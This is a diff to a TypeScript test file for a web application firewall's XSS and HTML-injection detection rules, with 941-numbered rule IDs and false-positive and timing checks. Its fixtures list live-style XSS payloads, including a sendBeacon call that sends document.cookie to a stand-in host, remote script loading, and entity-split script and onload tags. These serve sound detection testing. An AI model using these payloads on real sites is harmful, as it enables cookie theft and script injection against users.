@@ -1,16 +1,21 @@
 import { test } from 'node:test';
 import assert from 'node:assert/strict';
 import { rules } from './xss.ts';
-import { scanHtml, scanJsBreakout, schemeAt, isScriptUrl } from './xss-scan.ts';
+import { scanHtml, scanJsBreakout, schemeAt, isScriptUrl, splitTagName } from './xss-scan.ts';
+import { scanHtmlInjection, scanJsStatement, KNOWN_ELEMENTS } from './html-inject.ts';
 import { applyChain } from '../transforms.ts';
 import type { PartRule } from '../types.ts';
+import type { Location } from '../../core/types.ts';
 
-/** Rule ids of the paranoia-1 XSS rules that fire on a (parser-decoded) value, run as the engine does. */
-function fired(value: string, paranoia = 1): string[] {
+/**
+ * Rule ids of the XSS rules up to `paranoia` that fire on a (parser-decoded) value found at a location of
+ * `kind`, run as the engine does (a rule runs only on the location kinds it targets).
+ */
+function fired(value: string, paranoia = 1, kind: Location['kind'] = 'query'): string[] {
   const out: string[] = [];
   for (const r of rules as readonly PartRule[]) {
-    if (r.paranoia > paranoia) continue;
-    if (r.transforms.some((c) => r.match(applyChain(value, c), { loc: { kind: 'query', name: 'q' }, value }, undefined as never) !== null)) out.push(r.id);
+    if (r.paranoia > paranoia || !r.targets.includes(kind)) continue;
+    if (r.transforms.some((c) => r.match(applyChain(value, c), { loc: { kind, name: 'q' }, value }, undefined as never) !== null)) out.push(r.id);
   }
   return out;
 }
@@ -47,22 +52,97 @@ test('DTD handler declarations, namespaced SVG, SVG-only elements, string-aware 
   }
 });
 
+/** Rich text and HTML e-mail as JSON APIs carry it (rich-text fields, `html_content` templates). */
+const RICH_HTML = [
+  '<p>Message</p>', '<b>bold</b> and <i>italic</i>', '<a href="https://example.com/docs">docs</a>', '`<div>` is a block element',
+  '<html><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8"><style>body{width:600px}</style></head><body><table><tr><td>x</td></tr></table></body></html>',
+  '<div class="note" onboarding>', '<o:OfficeDocumentSettings><o:AllowPNG/></o:OfficeDocumentSettings>',
+  '<!--[if (gte mso 9)|(IE)]><xml><o:x/></xml><![endif]-->', '<!DOCTYPE html><html><body><h2>Hi {{name}}</h2></body></html>',
+  '<br>', 'a<b>c', '<img src="https://cdn.example.com/a.png" alt="logo">', '<a href="mailto:a@example.com">mail</a>',
+  '<table style="width:100%"><tr><td>x</td></tr></table>', '<ul><li>one</li><li>two</li></ul>',
+];
+
 test('benign text and markup do not trigger at paranoia 1', () => {
   const benign = [
-    '<p>Message</p>', '<your x509 certificate>', '<b>bold</b> and <i>italic</i>', '<a href="https://example.com/docs">docs</a>',
-    '`<div>` is a block element', 'Use `alert()` sparingly in code reviews', '${org.name}: your verification code is ${code}',
-    'a < b and c > d', '<html><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8"><style>body{width:600px}</style></head><body><table><tr><td>x</td></tr></table></body></html>',
-    "O'Brien said \"hello\" to everyone", 'learn javascript: the good parts', 'See https://example.com/a?b=c&d=e#frag',
+    '<your x509 certificate>', 'Use `alert()` sparingly in code reviews', '${org.name}: your verification code is ${code}',
+    'a < b and c > d', "O'Brien said \"hello\" to everyone", 'learn javascript: the good parts', 'See https://example.com/a?b=c&d=e#frag',
     'Price: 5 < 10', '**bold** _markdown_ [link](https://example.com)', 'if (a) { b(); }', 'online=true', 'one="two"',
-    '<div class="note" onboarding>', 'The event onclick fires when…', "It's \"quoted\" — fine", '<o:OfficeDocumentSettings><o:AllowPNG/></o:OfficeDocumentSettings>',
-    '<!--[if (gte mso 9)|(IE)]><xml><o:x/></xml><![endif]-->', 'event.target.?[type eq "UserGroup"].size()>0', '<', '&amp;',
+    'The event onclick fires when…', "It's \"quoted\" — fine", 'event.target.?[type eq "UserGroup"].size()>0', '<', '&amp;',
   ];
   for (const b of benign) assert.deepEqual(fired(b), [], `false positive: ${b}`);
+  // HTML in a JSON body value (rich text, e-mail templates) is normal: not flagged at PL1 ...
+  for (const b of RICH_HTML) {
+    for (const kind of ['json', 'multipart', 'xml'] as const) assert.deepEqual(fired(b, 1, kind), [], `false positive in ${kind}: ${b}`);
+  }
+  // ... while the same markup in a URL parameter is HTML injection (941160), and PL2 flags it in bodies (941161)
+  for (const b of RICH_HTML.filter((x) => !x.startsWith('<o:') && !x.startsWith('`') && x !== 'a<b>c')) {
+    assert.ok(fired(b, 1, 'query').includes('941160') || fired(b, 1, 'query').includes('941100'), `query: ${b}`);
+    assert.ok(fired(b, 2, 'json').includes('941161'), `json PL2: ${b}`);
+  }
+});
+
+test('941160 HTML injection into URL-borne values: known elements, declarations, comments, PIs', () => {
+  const attacks = [
+    '<html lang="en">', '<head>', '<body bgcolor=red>', '</body>', '<style type="text/css">', '</style>', '<form>',
+    '<form action=/login method=post>', '<input type="hidden" name="csrf" value="x">', '<a href="//evil.example">click</a>',
+    '<div style="position:fixed;top:0">', '<h2>Account locked</h2>', '<marquee>', '</textarea>', '<iframe name=x>',
+    '<rect width="10" height="10"/>', '<ellipse rx=5 ry=5>', '</feTurbulence>', '<linearGradient id=g>', '<mrow><mi>x</mi></mrow>',
+    '<image href="x.png" x=0>', '<table border=1>', '<br/>', '<HR>', '<svg:rect/>', '</xsl:for-each>', '<xml:namespace ns="x">',
+    '<?xml version="1.0"?>', '<?php echo 1; ?>', '<? print 1 ?>', '<?= $x ?>', '<!DOCTYPE note [', '<!ENTITY x "y">',
+    '<!ELEMENT note (to)>', '<!-- hidden -->', 'x<!--', '<!--[if IE]>', '<![endif]-->', '<![CDATA[ x ]]>',
+    '<note xmlns="urn:example:notes">', 'xmlns:xlink="http://www.w3.org/1999/xlink"', '<blockquote\ncite=x>', '<center',
+  ];
+  for (const a of attacks) {
+    assert.ok(fired(a, 1, 'query').includes('941160'), `missed in query: ${a}`);
+    for (const kind of ['form', 'cookie', 'header', 'path_segment', 'query_name'] as const) assert.ok(fired(a, 1, kind).includes('941160'), `missed in ${kind}: ${a}`);
+  }
+  // percent- and entity-encoded once more, full-width brackets
+  for (const a of ['%3Cbody%3E', '&lt;form&gt;', '\uff1chead\uff1e']) assert.ok(fired(a).includes('941160'), `missed: ${a}`);
+});
+
+test('941160 leaves placeholders, generics, math, e-mail and chat markup alone', () => {
+  const benign = [
+    '<access_token_value>', '<your x509 certificate>', '<email@example.com>', 'Jane <jane@example.com>', 'List<String>',
+    'Map<String, Object>', 'List<Object>', 'Array<Image>', 'Optional<Table>', 'x<y>z', '<3', 'I <3 NY', 'a < b and c > d',
+    'a<b', 'if a<b then', '<code>', '?code=<code>&state=<state>', 'SELECT * FROM <table>', '<title>', '<path>', '<data>',
+    '<time> minutes', '<text to translate>', '<input>', '<a> and <b>', '<https://example.com>', '<http://x.example/a|link>',
+    '<mailto:a@example.com>', '<@U024BE7LH>', '<#C024BE7LR|general>', '<!here>', '<!channel>', '<!subteam^S012|team>',
+    '<<EOF', '<-- back', '->', '=> <=', '**bold** and _it_ [x](https://example.com) `code`', '# Heading\n\n> quote',
+    'v1.2 <= v < 2.0', '<RETURN>', '<Ctrl>+<C>', '<name>', '<user_id>', '<YYYY-MM-DD>', '<br.com>', 'xmlns', 'the xmlns attribute',
+  ];
+  for (const b of benign) assert.deepEqual(fired(b, 1, 'query'), [], `false positive: ${b}`);
+  assert.equal(scanHtmlInjection('<access_token_value>'), null);
+});
+
+test('KNOWN_ELEMENTS holds standard names only (no placeholder words)', () => {
+  for (const e of ['html', 'head', 'body', 'form', 'feimage', 'foreignobject', 'mrow', 'xmp', 'image', 'h6']) assert.ok(KNOWN_ELEMENTS.has(e), e);
+  for (const e of ['your', 'access_token_value', 'email', 'string', 'name', 'value', 'token', 'x', 'y', 'file', 'user']) assert.ok(!KNOWN_ELEMENTS.has(e), e);
+});
+
+test('941371 JS statements in URL-borne values, not in JSON bodies', () => {
+  const attacks = [
+    'navigator.sendBeacon("//x.example", document.cookie)', 'navigator.vibrate(200)', 'document.write("x")',
+    'window.location.href = "//evil.example"', 'location.replace("//evil.example")', 'localStorage.setItem("k", 1)',
+    'top.document.body.innerHTML="x"', '$("#login").submit()', "$('a.more').on('click', go)", 'jQuery(document).ready(go)',
+    '$(function(){ go() })', '$.getScript("//x.example/a.js")', 'function go(){', 'function (a, b) { return a }',
+    'x.on("y", function() {', 'history.pushState({}, "", "/x")',
+  ];
+  for (const a of attacks) {
+    assert.ok(fired(a, 1, 'query').includes('941371'), `missed: ${a}`);
+    assert.ok(!fired(a, 1, 'json').includes('941371'), `JSON at PL1: ${a}`);
+  }
+  const benign = [
+    'document.pdf', 'my-document.docx (v2)', 'window cleaning (glass)', 'Window.open? maybe', 'Document.create(x)', 'location: Paris (FR)',
+    'history.md', 'the function of a key (see docs)', 'functional(x) { }', 'functions() {', 'price $(5.00)', 'US$ (approx.)',
+    '$filter=name eq (x)', 'self.assessment(2024)', 'window.title', 'location.city == "Paris"', 'navigator.onLine', 'a = b.c(d)',
+    'document.version=2 ', 'docs: window.x', 'my.document.write(1)',
+  ];
+  for (const b of benign) assert.deepEqual(fired(b, 1, 'query'), [], `false positive: ${b}`);
 });
 
 test('paranoia 2 adds risky elements and bare sink calls', () => {
-  assert.deepEqual(fired('<form method=post>', 1), []);
-  assert.ok(fired('<form method=post>', 2).includes('941320'));
+  assert.deepEqual(fired('<form method=post>', 1, 'json'), []);
+  assert.ok(fired('<form method=post>', 2, 'json').includes('941320'));
   assert.ok(fired('x = eval(y)', 2).includes('941390'));
 });
 
@@ -73,15 +153,39 @@ test('scheme reading tolerates controls and entities, bounded', () => {
 });
 
 test('linear time on 64 KiB pathological input', () => {
-  const inputs = ['<'.repeat(65536), '<a '.repeat(21845), '<a b="'.repeat(10922), "'".repeat(65536), '${'.repeat(32768), '{{'.repeat(32768), 'on'.repeat(32768), 'on='.repeat(21845), '"on'.repeat(21845), '&#'.repeat(32768), 'javascript:'.repeat(5957), '<svg '.repeat(13107), '";'.repeat(32768), '<style>'.repeat(9362)];
+  const unit = (u: string) => u.repeat(Math.ceil(65536 / u.length)).slice(0, 65536);
+  const inputs = [
+    '<', '<a ', '<a b="', "'", '${', '{{', 'on', 'on=', '"on', '&#', 'javascript:', '<svg ', '";', '<style>',
+    // HTML-injection, JS-statement, entity-split and bracket-separator paths
+    '<code ', '<code a', '</div', '<!', '<!-', '<?', '<x xmlns', '<x x', 'xmlns:a=', 'xmlns:', '<img[a]', '<img[a', '<a[',
+    '<scr&#x9;', '<s&#', '<i\t', 'document.', 'window.a', '.a', '$(', '$("', '$.a', 'jQuery(', 'function(', 'function f(a,',
+    'function', 'List<Object', '<b x="', '<x </', '<x <',
+  ].map(unit);
   for (const s of inputs) {
     const t0 = performance.now();
     scanHtml(s);
     scanJsBreakout(s);
-    fired(s, 4);
+    scanHtmlInjection(s);
+    scanJsStatement(s);
+    fired(s, 4, 'query');
+    fired(s, 4, 'json');
     const ms = performance.now() - t0;
     assert.ok(ms < 2000, `${JSON.stringify(s.slice(0, 8))}: ${ms} ms`);
   }
+});
+
+test('entity-split tag names, bracketed separator slots and `<` attribute names (every location)', () => {
+  const attacks = [
+    '<scr&#x9;ipt>alert(1)</scr&#x9;ipt>', '<scr&#x9ipt>go()</scr&#x9ipt>', '<ifr&#10;ame src=//x.example>', '<s&Tab;vg onload=go()>',
+    '<scr\nipt>go()</scr\nipt>', '<img[x]src[y]=1[z]onerror=[w]"go()">', '<svg[/]onload[ ]=go()>', '<x </onfocus=go() autofocus>',
+  ];
+  for (const a of attacks) {
+    for (const kind of ['query', 'json'] as const) assert.ok(fired(a, 1, kind).includes('941100'), `missed in ${kind}: ${a}`);
+  }
+  assert.equal(splitTagName('scr&#x9;ipt>', 0), 'script');
+  assert.equal(splitTagName('script>', 0), null); // not split
+  assert.equal(splitTagName('b&#9;x>', 0), null); // not an active element
+  for (const b of ['<b&amp;c>', 'a [b] <c [d]>', 'Tom &amp; <Jerry>', '<p[1]>x']) assert.deepEqual(fired(b, 1, 'json'), [], `false positive: ${b}`);
 });
 
 test('generalises to vectors written for this test (mXSS, entity-split schemes, SMIL, data: SVG)', () => {
@@ -90,6 +194,6 @@ test('generalises to vectors written for this test (mXSS, entity-split schemes, 
 });
 
 test('API and prose text with markup-like characters stays clean', () => {
-  const text = ["Terms & Conditions (updated 2024); see section 3(a)", "Q: How do I select all? A: press Ctrl+A", "Error: can't connect to host 'db-1' (timeout)", "Run `SELECT * FROM users` to check", "if (x > 0 && y < 10) { return; }", "O'Reilly & Sons; 'Best-sellers' -- 2024 edition", "Please don't drop the table; it's fragile", "<3 you", "a<b>c", "x => y", "<br>", "<<EOF", "I'd like 2 or 3 more", "Order by phone: 555-0100", "group by region (EMEA)", "He said: 'union is strength'", "rock'n'roll; select your seat", "user@example.com; admin@example.com", "SELECT-2000 model", "(555) 010-0199", "100 - 20 = 80", "It's 50% off -- today only!", "x-www-form-urlencoded", "Price (USD): 1,299.00", "Dear 'Customer', your order #123 shipped", "on the 'Desktop' or 'Mobile' app", "Use onClick handler in React", "alert: disk almost full (95%)", "confirm your email", "The javascript: protocol is blocked", "See <https://example.com>", "<img src=\"https://cdn.example.com/a.png\" alt=\"logo\">", "<a href=\"mailto:a@example.com\">mail</a>", "<table style=\"width:100%\"><tr><td>x</td></tr></table>", "{{user.first_name}}, welcome!", "Hello ${name}", "`code` and ```block```", "1' 2\" tall", "Sort: name asc; limit 10", "where=city eq 'Paris' and active eq true", "filter=status in ('a','b')", "q=title:\"hello world\" OR tags:news", "--verbose --output=json", "#hashtag #another", "/* not a comment */ really", "100%; drop", "data:image/png;base64,iVBORw0KGgo=", "Hi! :-) ;-) <:o)", "a = b; c = d;", "Tom & Jerry's \"best\" episodes (1940-1958)"];
+  const text = ["Terms & Conditions (updated 2024); see section 3(a)", "Q: How do I select all? A: press Ctrl+A", "Error: can't connect to host 'db-1' (timeout)", "Run `SELECT * FROM users` to check", "if (x > 0 && y < 10) { return; }", "O'Reilly & Sons; 'Best-sellers' -- 2024 edition", "Please don't drop the table; it's fragile", "<3 you", "x => y", "<<EOF", "I'd like 2 or 3 more", "Order by phone: 555-0100", "group by region (EMEA)", "He said: 'union is strength'", "rock'n'roll; select your seat", "user@example.com; admin@example.com", "SELECT-2000 model", "(555) 010-0199", "100 - 20 = 80", "It's 50% off -- today only!", "x-www-form-urlencoded", "Price (USD): 1,299.00", "Dear 'Customer', your order #123 shipped", "on the 'Desktop' or 'Mobile' app", "Use onClick handler in React", "alert: disk almost full (95%)", "confirm your email", "The javascript: protocol is blocked", "See <https://example.com>", "{{user.first_name}}, welcome!", "Hello ${name}", "`code` and ```block```", "1' 2\" tall", "Sort: name asc; limit 10", "where=city eq 'Paris' and active eq true", "filter=status in ('a','b')", "q=title:\"hello world\" OR tags:news", "--verbose --output=json", "#hashtag #another", "/* not a comment */ really", "100%; drop", "data:image/png;base64,iVBORw0KGgo=", "Hi! :-) ;-) <:o)", "a = b; c = d;", "Tom & Jerry's \"best\" episodes (1940-1958)"];
   for (const t of text) assert.deepEqual(fired(t), [], `false positive: ${t}`);
 });
